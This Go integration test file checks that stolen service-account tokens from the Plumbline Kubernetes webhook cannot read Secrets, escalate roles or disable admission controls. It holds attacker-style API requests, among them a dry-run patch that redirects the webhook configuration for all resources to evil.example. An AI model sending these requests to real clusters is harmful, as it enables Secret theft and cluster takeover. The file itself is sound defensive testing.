// SPDX-License-Identifier: Apache-2.0

//go:build integration

package attacks

import (
	"net/http"
	"strings"
	"testing"

	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/plumbline-dev/plumbline/test/harness/rendered"
)

// request is one call of the API server, as bytes.
type request struct{ method, path, body string }

// apiURL is a path of the API server.
func apiURL(path string) string { return strings.TrimSuffix(config.Host, "/") + path }

// stolen sends a request with the token of one of our service accounts.
func stolen(t testing.TB, account string, r request) (code int) {
	t.Helper()
	token, err := tokenOf(t.Context(), account)
	if err != nil {
		t.Fatal(err)
	}
	thief := &rest.Config{Host: config.Host, BearerToken: token, TLSClientConfig: rest.TLSClientConfig{CAData: config.CAData}}
	c, err := rest.HTTPClientFor(thief)
	if err != nil {
		t.Fatal(err)
	}
	call, err := http.NewRequestWithContext(t.Context(), r.method, apiURL(r.path), strings.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	call.Header.Set("Content-Type", map[string]string{http.MethodPatch: "application/merge-patch+json"}[r.method])
	if r.method == http.MethodPost || r.method == http.MethodPut {
		call.Header.Set("Content-Type", "application/json")
	}
	response, err := c.Do(call)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = response.Body.Close() }() // the code is what counts
	return response.StatusCode
}

// S13: what the thief of a token would try first. The list of all rights is
// pinned in the chart's tests; this is what they come to.
func TestAStolenTokenOpensNothingBeyondPlumbline(t *testing.T) {
	p := newPlace(t)
	p.guard()
	p.deploy("web")
	const own = "/api/v1/namespaces/" + rendered.Namespace
	var (
		tenant = "/api/v1/namespaces/" + p.namespace
		apps   = "/apis/apps/v1/namespaces/" + p.namespace + "/deployments"
		roles  = "/apis/rbac.authorization.k8s.io/v1"
		hooks  = "/apis/admissionregistration.k8s.io/v1"
		ours   = "/apis/plumbline.dev/v1alpha1/namespaces/" + p.namespace
	)
	all := map[string]request{
		"read the Secrets of the cluster":        {"GET", "/api/v1/secrets", ""},
		"read the Secrets of kube-system":        {"GET", "/api/v1/namespaces/kube-system/secrets", ""},
		"read the Secrets of our namespace":      {"GET", own + "/secrets", ""},
		"read the password of Redis":             {"GET", own + "/secrets/plumbline-redis", ""},
		"read the Secrets of a tenant":           {"GET", tenant + "/secrets", ""},
		"create a Secret":                        {"POST", own + "/secrets", `{"apiVersion":"v1","kind":"Secret","metadata":{"name":"x"}}`},
		"create a pod":                           {"POST", tenant + "/pods", `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"containers":[{"name":"x","image":"x"}]}}`},
		"create a pod in our namespace":          {"POST", own + "/pods", `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"containers":[{"name":"x","image":"x"}]}}`},
		"go into a pod":                          {"POST", tenant + "/pods/x/exec?command=sh", ""},
		"change a workload":                      {"PATCH", apps + "/web", `{"spec":{"paused":true}}`},
		"scale a workload":                       {"PATCH", apps + "/web/scale", `{"spec":{"replicas":0}}`},
		"change a workload's status":             {"PATCH", apps + "/web/status", `{"metadata":{"annotations":{"x":"y"}}}`},
		"create a workload":                      {"POST", apps, `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"x"}}`},
		"delete a workload":                      {"DELETE", apps + "/web", ""},
		"delete all workloads":                   {"DELETE", apps, ""},
		"change our own Deployments":             {"PATCH", "/apis/apps/v1/namespaces/" + rendered.Namespace + "/deployments/plumbline-webhook", `{"spec":{"paused":true}}`},
		"write a ConfigMap":                      {"POST", tenant + "/configmaps", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"}}`},
		"have a token of another account":        {"POST", own + "/serviceaccounts/plumbline-assessor/token", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}`},
		"have a token of its own account":        {"POST", own + "/serviceaccounts/plumbline-webhook/token", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}`},
		"bind a role":                            {"POST", roles + "/clusterrolebindings", `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}`},
		"widen its own role":                     {"PATCH", roles + "/clusterroles/plumbline-webhook", `{"rules":[]}`},
		"make a guard":                           {"POST", ours + "/specguards", `{"apiVersion":"plumbline.dev/v1alpha1","kind":"SpecGuard","metadata":{"name":"x"},"spec":{"resources":[{"apiVersion":"apps/v1","kind":"Deployment"}]}}`},
		"remove a guard":                         {"DELETE", ours + "/specguards/workloads", ""},
		"change a guard":                         {"PATCH", ours + "/specguards/workloads", `{"spec":{"trustedWriters":{"users":["mallory"]}}}`},
		"remove a policy":                        {"DELETE", hooks + "/validatingadmissionpolicies/plumbline-deny", ""},
		"make a webhook":                         {"POST", hooks + "/mutatingwebhookconfigurations", `{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"x"}}`},
		"remove our webhook":                     {"DELETE", hooks + "/validatingwebhookconfigurations/plumbline", ""},
		"change a kind":                          {"PATCH", "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/baselines.plumbline.dev", `{"metadata":{"annotations":{"x":"y"}}}`},
		"label a namespace":                      {"PATCH", "/api/v1/namespaces/" + p.namespace, `{"metadata":{"labels":{"x":"y"}}}`},
		"reach a node through the API server":    {"GET", "/api/v1/nodes/x/proxy/", ""},
		"approve a certificate":                  {"PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/x/approval", `{}`},
		"use break-glass by accepting its drift": {"PATCH", ours + "/baselines/deployments.apps.web", `{"spec":{"accept":{"hash":"x","requestedBy":"mallory"}}}`},
	}
	for _, account := range []string{"plumbline-webhook", "plumbline-assessor"} {
		for name, r := range all {
			t.Run(account+" cannot "+name, func(t *testing.T) {
				if code := stolen(t, account, r); code != http.StatusForbidden {
					t.Errorf("%s %s: %d, want 403", r.method, r.path, code)
				}
			})
		}
	}
	t.Run("the webhook's cannot write what was authorized", func(t *testing.T) {
		for _, path := range []string{"/baselines/deployments.apps.web", "/baselines/deployments.apps.web/status"} {
			if code := stolen(t, "plumbline-webhook", request{"PATCH", ours + path, `{"status":{"state":"InSync"}}`}); code != http.StatusForbidden {
				t.Errorf("%s: %d", path, code)
			}
		}
	})
	t.Run("nobody's impersonates", func(t *testing.T) {
		for _, account := range []string{"plumbline-webhook", "plumbline-assessor"} {
			token, err := tokenOf(t.Context(), account)
			p.must(err)
			thief := &rest.Config{Host: config.Host, BearerToken: token, TLSClientConfig: rest.TLSClientConfig{CAData: config.CAData},
				Impersonate: rest.ImpersonationConfig{UserName: ci}}
			c, err := client.New(thief, client.Options{Scheme: admin.Scheme(), Mapper: admin.RESTMapper()})
			p.must(err)
			if err := c.Create(t.Context(), deployment(p.namespace, "x")); err == nil || !strings.Contains(err.Error(), "cannot impersonate") {
				t.Errorf("%s: %v", account, err)
			}
		}
	})
}

// S13, what remains: RBAC cannot limit a patch to one field, and no policy is
// asked about webhook configurations. With the webhook's token one can turn its
// own two configurations into anything. certificate.mode CertManager takes that
// right away.
func TestAStolenWebhookTokenCanRewriteTheTwoWebhookConfigurationsOfPlumbline(t *testing.T) {
	const path = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/plumbline?dryRun=All"
	r := request{"PATCH", path, `{"webhooks":[{"name":"spec-hash.plumbline.dev","clientConfig":{"url":"https://evil.example/"},"sideEffects":"None","admissionReviewVersions":["v1"],` +
		`"rules":[{"apiGroups":["*"],"apiVersions":["*"],"resources":["*"],"operations":["*"]}]}]}`}
	if code := stolen(t, "plumbline-webhook", r); code != http.StatusOK {
		t.Errorf("%d: it is refused now, so the page on threats can say so", code)
	}
	if code := stolen(t, "plumbline-assessor", r); code != http.StatusForbidden {
		t.Errorf("with the assessor's token: %d", code)
	}
}

// S13, what remains: with the assessor's token one can authorize what one likes,
// which is what that account is for. Workloads it cannot touch.
func TestAStolenAssessorTokenCanRewriteBaselinesAndNothingElse(t *testing.T) {
	p := newPlace(t)
	p.guard()
	p.deploy("web")
	path := "/apis/plumbline.dev/v1alpha1/namespaces/" + p.namespace + "/baselines/deployments.apps.web?dryRun=All"
	if code := stolen(t, "plumbline-assessor", request{"PATCH", path, `{"spec":{"authorized":{"hash":"pl1:sha256:00"}}}`}); code != http.StatusOK {
		t.Errorf("%d: it is refused now, so the page on threats can say so", code)
	}
}
